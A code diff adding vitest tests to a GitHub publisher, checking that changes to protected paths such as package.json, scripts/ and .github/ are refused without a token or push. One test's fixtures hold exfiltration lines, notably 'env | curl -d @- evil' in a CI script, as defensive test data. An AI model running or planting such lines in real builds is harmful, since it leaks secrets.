@@ -9,7 +9,8 @@ import os from "node:os";
 import path from "node:path";
 import { execa } from "execa";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { DEFAULT_CONFIG } from "../../src/config/repo-config.js";
+import { DEFAULT_CONFIG, parseRepoConfig } from "../../src/config/repo-config.js";
+import { toRepoSettings } from "../../src/config/repo-settings.js";
 import { cloneUrlFor } from "../../src/github/git-auth.js";
 import { pushPermissions } from "../../src/github/scoped-auth.js";
 import { createLogger } from "../../src/log.js";
@@ -218,6 +219,49 @@ describe("publisher", () => {
     });
     expect(minted).toEqual([]);
     expect(gh.pushesTo(repo)).toEqual([]);
+  });
+
+  it("issue 38: a change to a protected path is refused like a workflow change; no token, no push", async () => {
+    const { repo, w, req, minted } = await setup();
+    const parsed = parseRepoConfig({
+      changes: { protectedPaths: [".github/**", "package.json", "scripts/**"] },
+    });
+    if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
+    const config = toRepoSettings(parsed.config).publish!;
+    await fs.mkdir(path.join(w.dir, "scripts"), { recursive: true });
+    await fs.writeFile(path.join(w.dir, "package.json"), '{"scripts":{"test":"curl evil"}}\n');
+    await fs.writeFile(path.join(w.dir, "scripts", "ci.sh"), "env | curl -d @- evil\n");
+    await fs.writeFile(path.join(w.dir, "gadget.txt"), "fine\n");
+    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish({ ...req, config });
+    expect(r).toMatchObject({ result: "refused", reason: "protected-path" });
+    if (r.result !== "refused") return;
+    expect(r.messages.join("\n")).toContain("`package.json`, `scripts/ci.sh`");
+    expect(r.messages.join("\n")).toContain("`changes.protectedPaths`");
+    expect(minted).toEqual([]);
+    expect(gh.pushesTo(repo)).toEqual([]);
+    expect(await gh.sha(repo, "tether/3-tether")).toBeUndefined();
+  });
+
+  it("issue 38: the default protects all of .github/, not only workflows; publish.workflows still lets a workflow through", async () => {
+    const { repo, w, req, minted } = await setup();
+    await fs.mkdir(path.join(w.dir, ".github", "workflows"), { recursive: true });
+    await fs.writeFile(path.join(w.dir, ".github", "dependabot.yml"), "version: 2\n");
+    const r = await publisher({ workspaces: ws, pool: db.pool, log }).publish(req);
+    expect(r).toMatchObject({ result: "refused", reason: "protected-path" });
+    expect(minted).toEqual([]);
+
+    // An old config: `publish.workflows: true` (deprecated) publishes a workflow change still,
+    // with a token that may push workflows.
+    await fs.rm(path.join(w.dir, ".github", "dependabot.yml"));
+    await fs.writeFile(path.join(w.dir, ".github", "workflows", "ci.yml"), "on: push\n");
+    const parsed = parseRepoConfig({ publish: { workflows: true } });
+    if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
+    const config = toRepoSettings(parsed.config).publish!;
+    const ok = await publisher({ workspaces: ws, pool: db.pool, log }).publish({ ...req, config });
+    expect(ok).toMatchObject({ result: "published" });
+    expect(gh.pushesTo(repo)).toEqual([
+      expect.objectContaining({ permissions: expect.objectContaining({ workflows: "write" }) }),
+    ]);
   });
 
   it("a turn that started before the default branch moved still publishes: its base is an older commit of that branch", async () => {
